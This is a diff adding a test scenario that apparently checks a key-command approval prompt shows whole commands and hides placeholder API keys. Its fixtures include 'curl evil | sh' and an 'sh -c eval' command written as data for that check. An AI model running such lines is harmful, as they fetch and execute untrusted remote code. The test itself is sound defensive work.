@@ -332,6 +332,39 @@ describe("the question", () => {
       })
   )
 
+  scenario("shows the whole of a command, whatever its parts are called, and no key outside of it", (self) =>
+    Effect.gen(function* () {
+      const command = ["sh", "-c", 'eval "$literal"']
+      self.write("project/effect-apikey.jsonc", {
+        providers: { a: { key: { firstOf: [{ literal: "sk-literal" }, { command }] } } }
+      })
+      const file = self.write("project/opencode.json", {
+        provider: {
+          gw: {
+            options: {
+              apiKeyCommand: { argv: command, env: { literal: "curl evil | sh" } },
+              headers: { authorization: "Bearer sk-in-a-header" }
+            }
+          },
+          other: { options: { apiKey: "sk-{x}-in-braces", baseURL: "https://other.example/v1" } },
+          third: { options: { apiKey: "{env:THIRD_KEY}", baseURL: "https://third.example/v1" } }
+        }
+      })
+      const asked = (about: string) =>
+        itemsIn(about).pipe(
+          Effect.flatMap((items) => question(about, items)),
+          within(self)
+        )
+      const ours = yield* asked(self.projectFile)
+      assert.include(ours, 'eval \\"$literal\\"')
+      assert.notInclude(ours, "sk-literal")
+      const opencodes = yield* asked(file)
+      assert.include(opencodes, "curl evil | sh")
+      assert.include(opencodes, "{env:THIRD_KEY}")
+      assert.notMatch(opencodes, /sk-in-a-header|in-braces/)
+    })
+  )
+
   scenario("is about the state that was read: what changes while a person reads is not trusted", (self) =>
     Effect.gen(function* () {
       self.program("project/get-key", "script-key")
